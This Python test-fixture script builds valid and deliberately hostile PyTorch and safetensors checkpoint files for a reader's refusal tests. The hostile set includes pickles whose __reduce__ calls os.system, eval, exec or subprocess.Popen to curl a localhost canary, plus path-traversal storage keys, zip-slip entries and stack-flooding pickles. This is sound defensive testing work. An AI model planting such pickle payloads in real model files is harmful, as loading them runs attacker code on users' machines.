"""Writes the checkpoint files that tests/js/tensor_files*.test.mjs read, with the real tools.

    /usr/bin/python3 tests/js/make_torch_files.py OUT_DIR CANARY_PORT      (cwd: the repository)

OUT_DIR/good/: files written by torch.save (several pickle protocols), by the repository's
safetensors writer (scripts/model/safetensors_io.py) and a BF16 safetensors file written by hand,
plus torch-like archives built with a pickler that mimics torch.save's (crafted*.bin).
OUT_DIR/hostile/: files a reader must refuse; the pickles with a payload are made by Python's
pickle from objects whose __reduce__ names os.system, builtins.eval or subprocess.Popen (pickling
only records the global; nothing is run here), their command fetching
http://127.0.0.1:CANARY_PORT/canary.
OUT_DIR/manifest.json: for every good file each tensor's dtype, shape, bytes (hex) and float32
bit patterns, its tied pairs and metadata; for every hostile file the words its refusal must
contain; the entries (base64) of the small torch archives, for the fuzz test to re-pack.
"""

import base64
import builtins
import collections
import io
import json
import os
import pickle
import pickletools
import struct
import subprocess
import sys
import zipfile

import numpy as np
import torch

sys.path.insert(0, os.getcwd())
from scripts.model import safetensors_io  # noqa: E402

OUT = sys.argv[1]
PORT = int(sys.argv[2])
CANARY = f"http://127.0.0.1:{PORT}/canary"
os.makedirs(os.path.join(OUT, "good"), exist_ok=True)
os.makedirs(os.path.join(OUT, "hostile"), exist_ok=True)
torch.manual_seed(1234)

DTYPES = {torch.float32: "F32", torch.float16: "F16", torch.bfloat16: "BF16", torch.int64: "I64",
          torch.int32: "I32", torch.float64: "F64"}
manifest = {"good": {}, "hostile": [], "entries": {}}


def raw_bytes(t):
    t = t.detach().contiguous()
    if t.dtype == torch.bfloat16:
        t = t.view(torch.int16)
    return t.numpy().tobytes()


def describe(t):
    entry = {"dtype": DTYPES[t.dtype], "shape": list(t.shape), "hex": raw_bytes(t).hex(), "f32bits": None}
    if t.is_floating_point() and t.dtype != torch.float64:
        bits = t.detach().float().contiguous().reshape(-1).view(torch.int32).tolist()
        entry["f32bits"] = [b & 0xFFFFFFFF for b in bits]
    return entry


def good(name, fmt, tensors, tied=(), metadata=None):
    manifest["good"][name] = {"format": fmt, "tensors": {k: describe(v) for k, v in tensors.items()},
                              "tied": [list(p) for p in tied], "metadata": metadata}


def save_torch(name, sd, tied=(), metadata=None, **kwargs):
    torch.save(sd, os.path.join(OUT, "good", name), **kwargs)
    good(name, "pytorch", sd, tied, metadata)


# --- good files written by torch.save -----------------------------------------------------------
special = [0.0, -0.0, 1.0, -2.5, float("inf"), float("-inf"), float("nan"), 65504.0, 6.1e-05, 6e-08, 1e-40, 3.0e38]
emb = torch.randn(7, 4)
base = torch.arange(12, dtype=torch.float32) * 0.25 - 1.0
small = collections.OrderedDict([
    ("embeddings.word_embeddings.weight", emb),
    ("w_f16", torch.tensor(special[:10], dtype=torch.float16)),
    ("w_bf16", torch.tensor(special, dtype=torch.bfloat16).reshape(3, 4)),
    ("w_f32", torch.randn(2, 3, 2)),
    ("embeddings.position_ids", torch.arange(9, dtype=torch.int64).reshape(1, 9) - 3),
    ("decoder.weight", emb),  # tied: the same tensor, one storage
    ("scale", torch.tensor(0.125)),  # 0-D
    ("row", base.reshape(3, 4)[1]),  # a view at storage offset 4 of a 12-value storage
    ("base", base),
    ("count_i32", torch.tensor([1, -2, 2**31 - 1], dtype=torch.int32)),
    ("double", torch.tensor([1.5, -0.1], dtype=torch.float64)),
    ("empty", torch.zeros(0, 3)),
])
save_torch("small.bin", small, tied=[("embeddings.word_embeddings.weight", "decoder.weight")])
save_torch("small_p4.bin", small, tied=[("embeddings.word_embeddings.weight", "decoder.weight")], pickle_protocol=4)
save_torch("small_p5.bin", small, tied=[("embeddings.word_embeddings.weight", "decoder.weight")], pickle_protocol=5)


def bert_like(layers=2, hidden=8, vocab=30, positions=16, inter=16):
    sd = collections.OrderedDict()
    word = torch.randn(vocab, hidden)
    sd["bert.embeddings.position_ids"] = torch.arange(positions).expand((1, -1)).clone()
    sd["bert.embeddings.word_embeddings.weight"] = word
    sd["bert.embeddings.position_embeddings.weight"] = torch.randn(positions, hidden)
    sd["bert.embeddings.token_type_embeddings.weight"] = torch.randn(2, hidden)
    sd["bert.embeddings.LayerNorm.weight"] = torch.ones(hidden) + 0.01 * torch.randn(hidden)
    sd["bert.embeddings.LayerNorm.bias"] = 0.01 * torch.randn(hidden)
    for i in range(layers):
        p = f"bert.encoder.layer.{i}."
        for part in ("query", "key", "value"):
            sd[p + f"attention.self.{part}.weight"] = torch.randn(hidden, hidden)
            sd[p + f"attention.self.{part}.bias"] = torch.randn(hidden)
        sd[p + "attention.output.dense.weight"] = torch.randn(hidden, hidden)
        sd[p + "attention.output.dense.bias"] = torch.randn(hidden)
        sd[p + "attention.output.LayerNorm.weight"] = torch.randn(hidden)
        sd[p + "attention.output.LayerNorm.bias"] = torch.randn(hidden)
        sd[p + "intermediate.dense.weight"] = torch.randn(inter, hidden)
        sd[p + "intermediate.dense.bias"] = torch.randn(inter)
        sd[p + "output.dense.weight"] = torch.randn(hidden, inter)
        sd[p + "output.dense.bias"] = torch.randn(hidden)
        sd[p + "output.LayerNorm.weight"] = torch.randn(hidden)
        sd[p + "output.LayerNorm.bias"] = torch.randn(hidden)
    bias = torch.randn(vocab)
    sd["cls.predictions.bias"] = bias
    sd["cls.predictions.transform.dense.weight"] = torch.randn(hidden, hidden)
    sd["cls.predictions.transform.dense.bias"] = torch.randn(hidden)
    sd["cls.predictions.transform.LayerNorm.weight"] = torch.randn(hidden)
    sd["cls.predictions.transform.LayerNorm.bias"] = torch.randn(hidden)
    sd["cls.predictions.decoder.weight"] = word
    sd["cls.predictions.decoder.bias"] = bias
    meta = collections.OrderedDict()
    for key in ["", "bert", "bert.embeddings", "bert.encoder", "cls", "cls.predictions"]:
        meta[key] = {"version": 1}
    sd._metadata = meta
    return sd


bert = bert_like()
save_torch("bert_like.bin", bert, _use_new_zipfile_serialization=True,
           tied=[("bert.embeddings.word_embeddings.weight", "cls.predictions.decoder.weight"),
                 ("cls.predictions.bias", "cls.predictions.decoder.bias")],
           metadata={"_metadata": {k: v for k, v in bert._metadata.items()}})
halves = {}  # id -> half tensor, so that the tied pairs stay tied
bert_half = collections.OrderedDict(
    (k, halves.setdefault(id(v), v.half()) if v.is_floating_point() else v) for k, v in bert.items())
save_torch("bert_like_f16.bin", bert_half, _use_new_zipfile_serialization=True,
           tied=[("bert.embeddings.word_embeddings.weight", "cls.predictions.decoder.weight"),
                 ("cls.predictions.bias", "cls.predictions.decoder.bias")])

linear = torch.nn.Linear(3, 2).state_dict()
save_torch("linear.bin", linear, metadata={"_metadata": {"": {"version": 1}}})
seq = torch.nn.Sequential(torch.nn.Linear(2, 3), torch.nn.LayerNorm(3), torch.nn.Embedding(5, 2)).state_dict()
save_torch("sequential_metadata.bin", seq,
           metadata={"_metadata": {k: dict(v) for k, v in seq._metadata.items()}})
params = collections.OrderedDict(torch.nn.Linear(2, 2).named_parameters())  # _rebuild_parameter
torch.save(params, os.path.join(OUT, "good", "parameters.bin"))
good("parameters.bin", "pytorch", params)

# --- good safetensors files ---------------------------------------------------------------------
st = collections.OrderedDict([
    ("embeddings.word_embeddings.weight", emb.numpy()),
    ("w_f16", np.array(special[:10], dtype=np.float16)),
    ("position_ids", np.arange(9, dtype=np.int64).reshape(1, 9)),
    ("scale", np.array(0.125, dtype=np.float32)),
    ("w_f32", np.random.default_rng(5).standard_normal((2, 3, 2)).astype(np.float32)),
    ("double", np.array([1.5, -0.1])),
    ("empty", np.zeros((0, 3), dtype=np.float32)),
])
safetensors_io.save(os.path.join(OUT, "good", "small.safetensors"), st, metadata={"format": "pt", "note": "made by make_torch_files.py"})
good("small.safetensors", "safetensors", {k: torch.from_numpy(np.ascontiguousarray(v)) for k, v in st.items()},
     metadata={"format": "pt", "note": "made by make_torch_files.py"})


def write_safetensors_by_hand(path, tensors, metadata=None):
    header, chunks, offset = {}, [], 0
    if metadata:
        header["__metadata__"] = metadata
    for name, t in tensors.items():
        raw = raw_bytes(t)
        header[name] = {"dtype": DTYPES[t.dtype], "shape": list(t.shape), "data_offsets": [offset, offset + len(raw)]}
        chunks.append(raw)
        offset += len(raw)
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(text)) + text + b"".join(chunks))


bf = collections.OrderedDict([("w_bf16", small["w_bf16"]), ("b", torch.randn(5).bfloat16()), ("ids", torch.tensor([3, 1], dtype=torch.int64))])
write_safetensors_by_hand(os.path.join(OUT, "good", "bf16.safetensors"), bf)
good("bf16.safetensors", "safetensors", bf, metadata={})


# --- torch-like archives from a pickler that mimics torch.save ----------------------------------
class FakeStorage:
    def __init__(self, key, storage_type, numel, extra=None):
        self.key, self.storage_type, self.numel, self.extra = key, storage_type, numel, extra


class FakeTensor:
    def __init__(self, storage, offset, size, stride):
        self.args = (storage, offset, tuple(size), tuple(stride), False, collections.OrderedDict())

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2, self.args)


class TorchLikePickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, FakeStorage):
            pid = ("storage", obj.storage_type, obj.key, "cpu", obj.numel)
            return pid + ((obj.extra,) if obj.extra is not None else ())
        return None


def torch_like_pickle(obj, protocol=2):
    buf = io.BytesIO()
    TorchLikePickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def write_zip(path, entries, compression=zipfile.ZIP_STORED):
    with zipfile.ZipFile(path, "w", compression=compression) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name), data, compress_type=compression)


def archive(pkl, storages, prefix="archive", extra=()):
    return [(f"{prefix}/data.pkl", pkl)] + [(f"{prefix}/data/{k}", v) for k, v in storages.items()] + \
        [(f"{prefix}/version", b"3\n")] + list(extra)


values = torch.arange(6, dtype=torch.float32) * 1.5 - 2
store0 = FakeStorage("0", torch.FloatStorage, 6)
crafted = {"a": FakeTensor(store0, 0, (2, 3), (3, 1)), "tail": FakeTensor(store0, 4, (2,), (1,)),
           "one": FakeTensor(store0, 5, (), ())}
crafted_entries = archive(torch_like_pickle(crafted), {"0": raw_bytes(values)})
write_zip(os.path.join(OUT, "good", "crafted.bin"), crafted_entries)
good("crafted.bin", "pytorch", {"a": values[:6].reshape(2, 3), "tail": values[4:6], "one": values[5]})
manifest["entries"]["crafted.bin"] = {n: base64.b64encode(d).decode() for n, d in crafted_entries}

# A newer form: an untyped storage (numel in bytes) whose persistent id carries a dtype global.
untyped = {"u": FakeTensor(FakeStorage("0", torch.storage.UntypedStorage, 24, torch.float32), 1, (5,), (1,))}
untyped_entries = archive(torch_like_pickle(untyped, protocol=4), {"0": raw_bytes(values)}, prefix="model")
write_zip(os.path.join(OUT, "good", "crafted_untyped.bin"), untyped_entries)
good("crafted_untyped.bin", "pytorch", {"u": values[1:6]})

for name in ["small.bin", "linear.bin", "bert_like.bin"]:
    with zipfile.ZipFile(os.path.join(OUT, "good", name)) as z:
        manifest["entries"][name] = {i.filename: base64.b64encode(z.read(i)).decode() for i in z.infolist()}


# --- hostile files --------------------------------------------------------------------------------
def hostile(name, fmt, expect, entries=None, data=None, compression=zipfile.ZIP_STORED):
    path = os.path.join(OUT, "hostile", name)
    if entries is not None:
        write_zip(path, entries, compression)
    else:
        with open(path, "wb") as f:
            f.write(data)
    manifest["hostile"].append({"file": name, "format": fmt, "expect": expect})


class Payload:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def global_name(fn):
    return f"{fn.__module__}.{fn.__qualname__}"


def first_global(pkl):
    """The module.name of the first global a pickle names, as its GLOBAL or STACK_GLOBAL spells it."""
    strings = []
    for op, arg, _ in pickletools.genops(pkl):
        if op.name == "GLOBAL":
            return arg.replace(" ", ".")
        if op.name == "STACK_GLOBAL":
            return f"{strings[-2]}.{strings[-1]}"
        if isinstance(arg, str) and "UNICODE" in op.name:
            strings.append(arg)
    raise AssertionError("no global")


payloads = [
    ("evil_os_system.bin", os.system, (f"curl -s {CANARY}",), 2, True),
    ("evil_os_system_p4.bin", os.system, (f"curl -s {CANARY}",), 4, True),
    ("evil_eval.bin", builtins.eval, (f"__import__('os').system('curl -s {CANARY}')",), 2, True),
    ("evil_eval_py3_names.bin", builtins.eval, (f"__import__('os').system('curl -s {CANARY}')",), 2, False),
    ("evil_exec.bin", builtins.exec, (f"import urllib.request; urllib.request.urlopen('{CANARY}')",), 3, True),
    ("evil_popen.bin", subprocess.Popen, (["curl", "-s", CANARY],), 2, True),
    ("evil_popen_py3_names.bin", subprocess.Popen, (["curl", "-s", CANARY],), 2, False),
    ("evil_popen_p5.bin", subprocess.Popen, (["curl", "-s", CANARY],), 5, True),
]
for name, fn, args, protocol, fix_imports in payloads:
    # The payload is a value of the state_dict. Protocol 2 with fix_imports (torch.save's way)
    # writes Python 2's names (builtins.eval -> __builtin__.eval, subprocess.Popen ->
    # commands.Popen); the message must name the global as the pickle spells it.
    pkl = pickle.dumps({"weight": Payload(fn, args)}, protocol=protocol, fix_imports=fix_imports)
    spelled = first_global(pkl)
    if not fix_imports or protocol > 2:
        assert spelled == global_name(fn), (spelled, global_name(fn))
    hostile(name, "pytorch", ["was refused", f"the global {spelled},", "nothing in the file was run"], entries=archive(pkl, {}))

# Protocol-2 GLOBAL lines written by hand: Python 2's names.
getattr_pkl = b"\x80\x02c__builtin__\ngetattr\nq\x00c__builtin__\nopen\n\x85R."
hostile("evil_getattr.bin", "pytorch", ["was refused", "__builtin__.getattr"], entries=archive(getattr_pkl, {}))
hostile("evil_posix_system.bin", "pytorch", ["was refused", "posix.system"],
        entries=archive(b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00trueR.", {}))
# A protocol-0 INST opcode (which would call a class) before any global check.
hostile("opcode_inst.bin", "pytorch", ["was refused", "INST"], entries=archive(b"(ios\nsystem\nX\x04\x00\x00\x00true.", {}))
hostile("opcode_newobj.bin", "pytorch", ["was refused", "NEWOBJ"],
        entries=archive(b"\x80\x02ccollections\nOrderedDict\n)\x81.", {}))

# A real torch file whose _rebuild_tensor_v2 global is replaced by other allowed-looking ones.
with zipfile.ZipFile(os.path.join(OUT, "good", "linear.bin")) as z:
    linear_entries = [(i.filename, z.read(i)) for i in z.infolist()]


def patched(old, new):
    return [(n, d.replace(old, new) if n.endswith("data.pkl") else d) for n, d in linear_entries]


hostile("reduce_ordereddict_args.bin", "pytorch", ["was refused", "collections.OrderedDict"],
        entries=patched(b"torch._utils\n_rebuild_tensor_v2\n", b"collections\nOrderedDict\n"))
hostile("reduce_floatstorage.bin", "pytorch", ["was refused", "torch.FloatStorage"],
        entries=patched(b"torch._utils\n_rebuild_tensor_v2\n", b"torch\nFloatStorage\n"))
hostile("reduce_rebuild_parameter_swap.bin", "pytorch", ["_rebuild_parameter"],
        entries=patched(b"torch._utils\n_rebuild_tensor_v2\n", b"torch._utils\n_rebuild_parameter\n"))
hostile("global_torch_load.bin", "pytorch", ["was refused", "torch.load"],
        entries=patched(b"torch._utils\n_rebuild_tensor_v2\n", b"torch\nload\n"))


class OrderedDictWithArgs:
    def __reduce__(self):
        return (collections.OrderedDict, ([("a", 1)],))


hostile("ordereddict_args.bin", "pytorch", ["was refused", "collections.OrderedDict"],
        entries=archive(pickle.dumps({"a": OrderedDictWithArgs()}, protocol=2), {}))


class StorageCall:
    def __reduce__(self):
        return (torch.FloatStorage, (10,))


hostile("storage_called.bin", "pytorch", ["was refused", "torch.FloatStorage"],
        entries=archive(pickle.dumps({"a": StorageCall()}, protocol=2), {}))

v = raw_bytes(values)
hostile("pid_traversal.bin", "pytorch", ["../../etc/passwd"],
        entries=archive(torch_like_pickle({"a": FakeTensor(FakeStorage("../../etc/passwd", torch.FloatStorage, 6), 0, (6,), (1,))}), {"0": v}))
hostile("pid_missing.bin", "pytorch", ["data/7", "does not have"],
        entries=archive(torch_like_pickle({"a": FakeTensor(FakeStorage("7", torch.FloatStorage, 6), 0, (6,), (1,))}), {"0": v}))
hostile("pid_slash.bin", "pytorch", ["data/0/x"],
        entries=archive(torch_like_pickle({"a": FakeTensor(FakeStorage("0/x", torch.FloatStorage, 6), 0, (6,), (1,))}), {"0": v}))
hostile("short_storage.bin", "pytorch", ["the storage is shorter than the tensor claims"],
        entries=archive(torch_like_pickle({"a": FakeTensor(store0, 0, (4, 4), (4, 1))}), {"0": v}))
hostile("short_storage_offset.bin", "pytorch", ["the storage is shorter than the tensor claims"],
        entries=archive(torch_like_pickle({"a": FakeTensor(store0, 3, (2, 2), (2, 1))}), {"0": v}))
hostile("storage_entry_short.bin", "pytorch", ["data/0", "24 bytes"],
        entries=archive(torch_like_pickle({"a": FakeTensor(FakeStorage("0", torch.FloatStorage, 100), 0, (6,), (1,))}), {"0": v}))
hostile("stride.bin", "pytorch", ["stride", "contiguous"],
        entries=archive(torch_like_pickle({"a": FakeTensor(store0, 0, (3, 2), (1, 3))}), {"0": v}))
hostile("storage_type_foreign.bin", "pytorch", ["was refused", "torch.ByteStorage"],
        entries=archive(torch_like_pickle({"a": FakeTensor(FakeStorage("0", torch.ByteStorage, 24), 0, (24,), (1,))}), {"0": v}))
hostile("top_list.bin", "pytorch", ["not a dict of tensors"],
        entries=archive(torch_like_pickle([FakeTensor(store0, 0, (6,), (1,))]), {"0": v}))
hostile("value_not_tensor.bin", "pytorch", ['"x"', "not a tensor"],
        entries=archive(torch_like_pickle({"x": 3}), {"0": v}))
hostile("zip_dotdot.bin", "pytorch", ["archive/../x"],
        entries=archive(torch_like_pickle(crafted), {"0": v}) + [("archive/../x", b"")])
hostile("zip_absolute.bin", "pytorch", ["/etc/x"],
        entries=archive(torch_like_pickle(crafted), {"0": v}) + [("/etc/x", b"")])
hostile("zip_backslash.bin", "pytorch", ["backslash"],
        entries=archive(torch_like_pickle(crafted), {"0": v}) + [("archive\\data\\1", b"")])
hostile("zip_two_folders.bin", "pytorch", ["two top-level folders"],
        entries=archive(torch_like_pickle(crafted), {"0": v}) + [("other/x", b"")])
hostile("deflated.bin", "pytorch", ["compressed", "deflate"],
        entries=archive(torch_like_pickle(crafted), {"0": v}), compression=zipfile.ZIP_DEFLATED)
hostile("big_endian.bin", "pytorch", ["byteorder", "big"],
        entries=archive(torch_like_pickle(crafted), {"0": v}, extra=[("archive/byteorder", b"big")]))
hostile("no_pickle.bin", "pytorch", ["data.pkl"], entries=[("archive/data/0", v), ("archive/version", b"3\n")])
import warnings  # noqa: E402
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    hostile("zip_duplicate.bin", "pytorch", ["twice"],
            entries=archive(torch_like_pickle(crafted), {"0": v}) + [("archive/data/0", v)])
# Deep nesting and a long chain of memo references: refused or read without a stack overflow.
deep = b"\x80\x02" + b"(" * 200_000 + b"."
hostile("marks_flood.bin", "pytorch", ["MARK"], entries=archive(deep, {}))
tuples = b"\x80\x02" + b"N" + b"\x85" * 300_000 + b"."
hostile("deep_tuples.bin", "pytorch", ["not a dict of tensors"], entries=archive(tuples, {}))

legacy = io.BytesIO()
torch.save(collections.OrderedDict(w=torch.ones(2)), legacy, _use_new_zipfile_serialization=False)
hostile("legacy.bin", "pytorch", ["legacy format"], data=legacy.getvalue())

# Every float16 and bfloat16 bit pattern widened to float32 by numpy and torch (exact conversions).
every = np.arange(65536, dtype=np.uint32).astype(np.uint16)
manifest["f16_to_f32_bits"] = every.view(np.float16).astype(np.float32).view(np.uint32).tolist()
manifest["bf16_to_f32_bits"] = [b & 0xFFFFFFFF for b in torch.from_numpy(every.view(np.int16)).view(torch.bfloat16).float().view(torch.int32).tolist()]

with open(os.path.join(OUT, "manifest.json"), "w") as f:
    json.dump(manifest, f)
print(f"wrote {len(manifest['good'])} good and {len(manifest['hostile'])} hostile files to {OUT}")
